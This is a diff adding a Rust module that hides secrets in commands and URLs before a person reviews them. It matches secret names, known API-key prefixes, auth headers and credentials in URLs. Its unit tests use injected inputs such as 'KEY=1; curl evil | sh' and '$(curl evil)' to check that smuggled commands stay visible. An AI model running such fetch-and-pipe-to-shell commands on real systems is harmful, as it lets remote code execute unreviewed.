@@ -1,0 +1,277 @@
+//! Texts without their secrets.
+//!
+//! For commands and URLs that somebody must judge before they run: every secret that can be known by its name, its place
+//! or its beginning becomes `***`, and nothing else does. A value that is nothing but a reference is no secret.
+
+use crate::expand::is_variable_name;
+
+pub const HIDDEN: &str = "***";
+
+/// Parts of the names of options and variables whose values are secret.
+const SECRET_WORDS: [&str; 12] =
+    ["token", "key", "secret", "pass", "pwd", "auth", "header", "bearer", "credential", "cookie", "jwt", "signature"];
+
+/// How keys of well-known services begin, and signed tokens.
+const SECRET_STARTS: [&str; 17] = [
+    "sk-",
+    "sk_live_",
+    "ghp_",
+    "gho_",
+    "ghs_",
+    "ghu_",
+    "github_pat_",
+    "glpat-",
+    "xoxb-",
+    "xoxp-",
+    "AKIA",
+    "AIza",
+    "ATATT",
+    "lin_api_",
+    "ntn_",
+    "tvly-",
+    "eyJhbGci",
+];
+
+/// Words before the secret in a header.
+const SCHEMES: [&str; 3] = ["bearer", "basic", "token"];
+
+/// A part of a URL's path from this length on, with letters and digits, may be what lets one in.
+const LONG_SEGMENT: usize = 20;
+
+/// The arguments of a command.
+pub fn arguments<'a>(args: impl Iterator<Item = &'a str>) -> Vec<String> {
+    let mut is_value_secret = false;
+    let mut shown = Vec::new();
+    for argument in args {
+        let is_option = argument.starts_with('-');
+        if std::mem::take(&mut is_value_secret) && !is_option {
+            shown.push(value(argument));
+        } else {
+            is_value_secret = is_option && !argument.contains('=') && is_secret_name(argument);
+            shown.push(text(argument));
+        }
+    }
+    shown
+}
+
+/// A value that is secret by its name: hidden, unless it is a reference, with no more than a word like `Bearer` before it.
+pub fn value(value: &str) -> String {
+    let (before, last) = value.rsplit_once(' ').unwrap_or(("", value));
+    let inner = last.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
+    let is_reference = inner.is_some_and(|inner| !inner.contains(['$', '{', '}']) && !inner.contains(":-"));
+    if is_reference && (before.is_empty() || is_scheme(before)) { value.to_owned() } else { HIDDEN.to_owned() }
+}
+
+/// Any text: one word or a whole script.
+pub fn text(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(first) = rest.chars().next() {
+        let word = &rest[..rest.find(|letter| !is_name_letter(letter)).unwrap_or(rest.len())];
+        if word.is_empty() {
+            shown.push(first);
+            rest = &rest[first.len_utf8()..];
+            continue;
+        }
+        let after = &rest[word.len()..];
+        let secret = Some(after).filter(|_| is_secret_name(word)).and_then(|after| assigned(word, after));
+        // To a shell that is a command, and whoever reads must see it.
+        let secret = secret.filter(|(_, value)| !value.contains("$(") && !value.contains('`'));
+        if after.starts_with("://") {
+            let end = rest.find(ends_url).unwrap_or(rest.len());
+            shown.push_str(&url(&rest[..end]));
+            rest = &rest[end..];
+        } else if let Some((between, secret)) = secret {
+            shown.extend([word, between, &value(secret)]);
+            rest = &after[between.len() + secret.len()..];
+        } else {
+            let is_key = SECRET_STARTS.iter().any(|start| word.starts_with(start));
+            shown.push_str(if is_key { HIDDEN } else { word });
+            rest = after;
+        }
+    }
+    shown
+}
+
+fn is_name_letter(letter: char) -> bool {
+    letter.is_alphanumeric() || matches!(letter, '_' | '-' | '.')
+}
+
+/// A fragment of a package's address is the version of it, and is read like any text.
+fn ends_url(letter: char) -> bool {
+    letter.is_whitespace() || matches!(letter, '#' | '"' | '\'' | '`' | '<' | '>' | '|' | ';' | '(' | ')')
+}
+
+fn is_secret_name(name: &str) -> bool {
+    let name = name.to_lowercase();
+    SECRET_WORDS.iter().any(|word| name.contains(word))
+}
+
+fn is_scheme(word: &str) -> bool {
+    SCHEMES.iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
+}
+
+/// What follows a name, where a value is given to it: what stands between the two, and the value. Knows `name=value`,
+/// `"name": "value"`, `Name: value` and `${NAME:-value}`.
+fn assigned<'a>(name: &str, after: &'a str) -> Option<(&'a str, &'a str)> {
+    let is_quote = |letter: char| matches!(letter, '"' | '\'' | '\\');
+    let quoted = after.trim_start_matches(is_quote);
+    let was_quoted = quoted.len() < after.len();
+    if let Some(default) = after.strip_prefix(":-") {
+        return Some((":-", &default[..default.find('}').unwrap_or(default.len())]));
+    }
+    let sign = quoted.trim_start();
+    let opened = if let Some(rest) = sign.strip_prefix('=').filter(|_| was_quoted || sign.len() == after.len()) {
+        rest
+    } else {
+        // A colon means other things too: ports, tags, places.
+        let rest = sign.strip_prefix(':')?;
+        let is_header = name.len() > 2 && (is_header_name(name) || rest.starts_with(' '));
+        if !was_quoted && !is_header {
+            return None;
+        }
+        rest.trim_start_matches(' ')
+    };
+    let start = opened.trim_start_matches(is_quote);
+    let quote = opened[..opened.len() - start.len()].chars().last();
+    let scheme = start.split_once(' ').filter(|(word, _)| is_scheme(word)).map_or(0, |(word, _)| word.len() + 1);
+    let value = match quote {
+        Some(quote) => &start[..start.find([quote, '\\']).unwrap_or(start.len())],
+        None => &start[..scheme + bare_end(&start[scheme..])],
+    };
+    Some((&after[..after.len() - start.len()], value))
+}
+
+fn is_header_name(name: &str) -> bool {
+    let name = name.to_lowercase();
+    name.starts_with("x-") || name.contains("authorization") || name.contains("cookie") || name.ends_with("api-key")
+}
+
+/// Where a value without quotes ends.
+fn bare_end(text: &str) -> usize {
+    let mut is_reference = false;
+    for (at, letter) in text.char_indices() {
+        match letter {
+            '{' if text[..at].ends_with('$') => is_reference = true,
+            '}' if is_reference => is_reference = false,
+            '}' | '"' | '\'' | '\\' | ',' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' => return at,
+            letter if letter.is_whitespace() => return at,
+            _ => {}
+        }
+    }
+    text.len()
+}
+
+/// Without the user before the host, the query, the fragment, and long random names in the path.
+pub fn url(text: &str) -> String {
+    let Some((scheme, rest)) = text.split_once("://") else { return text.to_owned() };
+    let (authority, tail) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
+    let (user, host) = match authority.rsplit_once('@') {
+        Some(("git", host)) => ("git@", host),
+        Some((_, host)) => ("***@", host),
+        None => ("", authority),
+    };
+    let port = host.rsplit_once(':').map_or("", |(_, port)| port);
+    // What is no port is the beginning of a password that holds a `/` or a `?`.
+    let is_port = port.ends_with([']', '}']) || port.bytes().all(|byte| byte.is_ascii_digit());
+    if !is_port {
+        return format!("{scheme}://{HIDDEN}");
+    }
+    let (path, secret) = match tail.find(['?', '#']) {
+        Some(at) => (&tail[..at], format!("{}{HIDDEN}", &tail[at..=at])),
+        None => (tail, String::new()),
+    };
+    let segment = |segment| if is_random(segment) { HIDDEN } else { segment };
+    let path: Vec<&str> = path.split('/').map(segment).collect();
+    format!("{scheme}://{user}{host}{}{secret}", path.join("/"))
+}
+
+fn is_random(segment: &str) -> bool {
+    let has = |wanted: fn(&u8) -> bool| segment.as_bytes().iter().any(wanted);
+    segment.len() >= LONG_SEGMENT
+        && has(u8::is_ascii_digit)
+        && has(u8::is_ascii_alphabetic)
+        && segment.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'=' | b'%'))
+}
+
+/// `${NAME}` and `${NAME:-...}` may be told; what else stands in braces may be anything.
+pub fn reference(inner: &str) -> String {
+    match inner.split_once(":-") {
+        Some((name, _)) if is_variable_name(name) => format!("${{{name}:-{HIDDEN}}}"),
+        None if is_variable_name(inner) => format!("${{{inner}}}"),
+        _ => "${...}".to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secrets_are_known_by_their_names() {
+        for (given, expected) in [
+            ("--token=abc", "--token=***"),
+            ("--env=API_KEY=abc", "--env=API_KEY=***"),
+            ("-eTOKEN=abc", "-eTOKEN=***"),
+            ("DB_PASS=abc;curl evil", "DB_PASS=***;curl evil"),
+            ("KEY=1; curl evil | sh", "KEY=***; curl evil | sh"),
+            ("KEY= curl evil", "KEY=*** curl evil"),
+            (r#"KEY="$(curl evil)" x"#, r#"KEY="$(curl evil)" x"#),
+            ("TOKEN='a b' run x", "TOKEN='***' run x"),
+            ("TOKEN=${T} run", "TOKEN=${T} run"),
+            ("Authorization: Bearer abc", "Authorization: ***"),
+            ("Authorization:Bearer abc", "Authorization:***"),
+            ("Authorization:${AUTH}", "Authorization:${AUTH}"),
+            ("Authorization: Bearer ${AUTH}", "Authorization: Bearer ${AUTH}"),
+            ("X-Api-Key:abc", "X-Api-Key:***"),
+            (r#"{"apiKey":"abc","size":3}"#, r#"{"apiKey":"***","size":3}"#),
+            (r#"{"apiKey": "a b", "token" : 5}"#, r#"{"apiKey": "***", "token" : ***}"#),
+            (r#"{\"apiKey\":\"abc\"}"#, r#"{\"apiKey\":\"***\"}"#),
+            ("${API_KEY:-abc d}/x", "${API_KEY:-***}/x"),
+            ("say ghp_abc now", "say *** now"),
+            ("eyJhbGciOiJIUzI1NiJ9.e30.x", "***"),
+        ] {
+            assert_eq!(text(given), expected, "{given}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_secret_is_shown() {
+        for plain in [
+            "mcp/auth:1.2",
+            "/etc/keys:/keys:ro",
+            "--author me",
+            "token",
+            "a == b",
+            "é=ü",
+            "${API_KEY}",
+            "--flag=value",
+            "https://auth.example.com:8080/mcp",
+            "@scope/key-server@1.2.3",
+        ] {
+            assert_eq!(text(plain), plain);
+        }
+    }
+
+    #[test]
+    fn urls_are_shown_without_what_lets_one_in() {
+        for (given, expected) in [
+            ("postgres://me:pw@host/db", "postgres://***@host/db"),
+            ("--dsn=postgres://me:pw@host/db", "--dsn=postgres://***@host/db"),
+            ("a://u:p@h b://u:p@h/x", "a://***@h b://***@h/x"),
+            ("git+https://u:p@host/x.git", "git+https://***@host/x.git"),
+            ("postgres://me:p/w@host/db", "postgres://***"),
+            ("https://host/x?k=v", "https://host/x?***"),
+            ("git+ssh://git@host/x#main", "git+ssh://git@host/x#main"),
+            ("https://abc@host/x#token=abc", "https://***@host/x#token=***"),
+            ("https://host/s/NDg3ZjY0ZTkxMjM0NTY3OA==/mcp", "https://host/s/***/mcp"),
+            ("https://[::1]:80/mcp", "https://[::1]:80/mcp"),
+            ("https://[::1]/mcp", "https://[::1]/mcp"),
+            ("https://host:${PORT}/mcp", "https://host:${PORT}/mcp"),
+            ("curl https://h/?a=b; evil", "curl https://h/?***; evil"),
+        ] {
+            assert_eq!(text(given), expected, "{given}");
+        }
+        assert_eq!(url("https://host/x#abc"), "https://host/x#***");
+    }
+}
